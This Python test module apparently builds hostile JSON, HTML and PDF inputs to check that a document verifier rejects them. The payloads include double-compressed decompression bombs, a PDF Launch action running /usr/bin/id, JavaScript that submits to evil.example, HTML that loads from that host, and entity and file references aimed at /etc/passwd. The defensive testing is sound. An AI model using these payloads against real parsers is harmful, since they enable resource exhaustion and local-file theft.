"""Finished documents that somebody made to harm who checks them: file name → bytes, and what is said of it."""

from __future__ import annotations

import io
import json
import random
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, Final

import pikepdf

from tests.verification.made import made

SECONDS: Final = 8
MEGABYTES: Final = 600


def _record(change: Callable[[dict[str, Any]], object]) -> bytes:
    data = json.loads(made("json"))
    change(data)
    return json.dumps(data).encode()


def _many_citations(data: dict[str, Any]) -> None:
    (items,) = (one["content"]["items"] for one in data["sections"] if one["name"] == "highlights")
    cited = items[0]["citations"][0]
    items[0]["citations"] = [{**cited, "id": f"x{number}", "paragraph": 9_999} for number in range(50_000)]


def _page(old: bytes, new: bytes) -> bytes:
    data = made("html")
    assert old in data
    return data.replace(old, new, 1)


def _puzzle() -> bytes:
    """Two texts that take an age to compare, as every line of the one stands everywhere in the other."""
    chance, data = random.Random(5), made("html")
    start = data.index(b'id="briefing-record">') + len(b'id="briefing-record">')
    end = data.index(b"</script>", start)
    record = json.loads(data[start:end])
    record["printed"] = [[chance.choice("ab") for _ in range(20_000)]]
    body = b"".join(b"<p>%s</p>" % chance.choice((b"a", b"b")) for _ in range(20_000))
    return data[:start].replace(b"</main>", body + b"</main>", 1) + json.dumps(record).encode() + data[end:]


@cache
def _packed_twice(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(bytes(1024**2)) for _ in range(megabytes)) + packer.flush()
    return zlib.compress(once, 9)


def _pdf(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(made("pdf"))) as pdf:
        change(pdf)
        pdf.save(target)
    return target.getvalue()


def _bomb(pdf: pikepdf.Pdf) -> None:
    stream = pdf.attachments["brief.json"].obj.EF.F
    stream.write(_packed_twice(1_500), filter=pikepdf.Array([pikepdf.Name.FlateDecode] * 2), decode_parms=None)


def _page_bomb(pdf: pikepdf.Pdf) -> None:
    content = pikepdf.Stream(pdf, b"")
    content.write(_packed_twice(1_500), filter=pikepdf.Array([pikepdf.Name.FlateDecode] * 2), decode_parms=None)
    pdf.pages[0].Contents = pdf.make_indirect(content)


def _reaching(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/usr/bin/id"))
    pdf.Root.AA = pikepdf.Dictionary(
        WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String('this.submitForm("http://evil.example/")'))
    )


def _own_page(pdf: pikepdf.Pdf) -> None:
    """A tree of pages that has itself among its leaves, and says that it is endless."""
    tree = pdf.Root.Pages
    tree.Kids.append(tree)
    tree.Count = 2**31 - 1


_REACHING = (
    b'<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">'
    b'<script src="http://evil.example/a.js"></script><img src="file:///etc/passwd"><iframe src="/etc/passwd"></iframe>'
)
_ENTITIES = (
    b'<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;">]><html><body>&a;&b;</body></html>'
)


def documents() -> Iterator[tuple[str, bytes, str]]:
    """Name, bytes, and a part of what is wrong with it."""
    yield "nested.brief.json", b"[" * 1_000_000, "its record is no JSON"
    yield "lists.brief.json", b"[" + b"[]," * 15_000_000 + b"[]]", "takes more than 600 MB of memory (--memory-mb)"
    yield "number.brief.json", b'{"schema": %s}' % (b"9" * 1_000_000), "its record is no JSON"
    yield "citations.brief.json", _record(_many_citations), "more than 1,000 things are wrong"
    yield "halves.brief.json", _record(lambda data: data.update(marking="\ud800\x1b[2J")), "marking"
    yield "nested.html", b"<html><body>" + b"<div>" * 300_000, "nested too deeply"
    yield "records.html", b'<html><script type="application/json" id="briefing-record">' * 50_000, "carries no record"
    yield "puzzle.html", _puzzle(), f"takes more than {SECONDS} s (--seconds)"
    yield "reaching.html", _page(b"<main", _REACHING + b"<main"), "changed after it was made"
    yield "entities.html", _ENTITIES, "carries no record"
    yield "streams.pdf", made("pdf") + b"stream\n" * 400_000, "changed after it was made"
    yield "bomb.pdf", _pdf(_bomb), "it may need more than 600 MB of memory (--memory-mb)"
    yield "page-bomb.pdf", _pdf(_page_bomb), "it may need more than 600 MB of memory (--memory-mb)"
    yield "reaching.pdf", _pdf(_reaching), "has no seal"
    yield "own-page.pdf", _pdf(_own_page), "has no seal"
    yield "cut.pdf", made("pdf")[:-5_000], "not a PDF"
